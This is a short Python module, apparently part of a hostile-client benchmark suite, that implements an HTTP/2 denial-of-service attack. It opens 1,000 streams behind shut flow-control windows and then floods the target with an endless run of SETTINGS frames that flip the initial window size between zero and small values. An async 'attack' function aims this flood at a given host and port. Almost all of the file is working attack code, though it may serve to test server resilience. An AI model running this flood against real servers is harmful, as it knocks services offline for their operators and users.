"""Replies that wait behind shut windows on 1,000 streams, and SETTINGS that open and shut all windows by a byte."""

from __future__ import annotations

import ssl
from collections.abc import Iterator

from benchmarks.hostile import wire

CONFIG: str | None = None

_STREAMS = 1_000
_REQUEST = b"\0\0\0\0\x07\n\x05world"


def sending() -> Iterator[bytes]:
    return wire.gathered(_frames())


def _frames() -> Iterator[bytes]:
    block = wire.block_of()
    for number in range(_STREAMS):
        yield wire.frame(wire.HEADERS, wire.END_HEADERS, 2 * number + 1, block)
        yield wire.frame(wire.DATA, wire.END_STREAM, 2 * number + 1, _REQUEST)
    size = 0
    while True:
        size = (size + 1) % 10
        opened = wire.setting(wire.INITIAL_WINDOW_SIZE, size)
        yield wire.frame(wire.SETTINGS, 0, 0, opened)


async def attack(host: str, port: int, seconds: float, tls: ssl.SSLContext | None = None) -> int:
    shut = wire.setting(wire.INITIAL_WINDOW_SIZE, 0)
    return await wire.flood(host, port, seconds, tls, sending, settings=shut)
